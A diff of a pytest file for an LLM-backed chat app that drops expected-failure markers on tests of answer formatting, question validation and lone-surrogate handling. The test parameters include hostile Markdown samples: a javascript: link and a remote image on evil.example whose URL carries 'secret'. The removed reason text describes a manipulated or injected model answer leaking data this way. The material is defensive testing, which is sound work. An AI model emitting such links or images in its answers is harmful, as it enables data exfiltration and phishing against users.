@@ -107,11 +107,6 @@ def test_no_formatter_of_user_corpus_or_tool_text_renders_a_link(payload):
             if live_links(text)} == {}
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "fmt.answer_message keeps the answer's Markdown, links and images included, so an answer "
-    "quoting a planted passage or written by a manipulated LLM can show a javascript: link or "
-    "load a remote image whose URL carries data out (a classic exfiltration channel). Answers "
-    "cite by [n] and never need links: escape '![' and '](' outside code in neutralize_html"))
 @pytest.mark.parametrize("payload", ["[click me](javascript:alert(1))",
                                      "![x](https://evil.example/track.png?q=secret)",
                                      "[docs](https://evil.example/login)"])
@@ -163,11 +158,6 @@ REJECTED = [
     pytest.param("\x00\x01\x1b\x7f", "question is empty", id="control-only"),
     pytest.param("What is \ufffd RICE?", "undecodable bytes", id="undecodable"),
 ]
-CREATED_BEFORE_VALIDATION = (
-    "ui.app.respond creates the conversation (titled with the rejected text) before the "
-    "engine validates the question; call engine.validate_question first and answer an "
-    "InputProblem without touching the store"
-)
 
 
 @pytest.mark.parametrize(("text", "words"), REJECTED)
@@ -178,7 +168,6 @@ def test_a_rejected_question_gets_its_reason_in_the_chat(app, text, words):
     assert "Traceback" not in reply and "Error" not in reply
 
 
-@pytest.mark.xfail(strict=True, reason=CREATED_BEFORE_VALIDATION)
 @pytest.mark.parametrize(("text", "words"), REJECTED)
 def test_a_rejected_question_adds_no_conversation(app, text, words):
     _ask(app.demo, text)
@@ -201,10 +190,6 @@ def test_a_blank_question_is_ignored_with_a_hint(app):
     assert app.advisor.store.list() == []
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "a lone surrogate (a browser can send one as a JSON \\ud800 escape) reaches SQLite in "
-    "ConversationStore.create and raises UnicodeEncodeError out of the handler, before its "
-    "try block; validate first (see the previous xfail) and reject surrogates as not UTF-8"))
 def test_a_lone_surrogate_gets_a_message_not_an_exception(app):
     merged, out = _ask(app.demo, "What is \ud800 RICE?")
     assert "UTF-8" in merged[out["chatbot"]][-1]["content"]
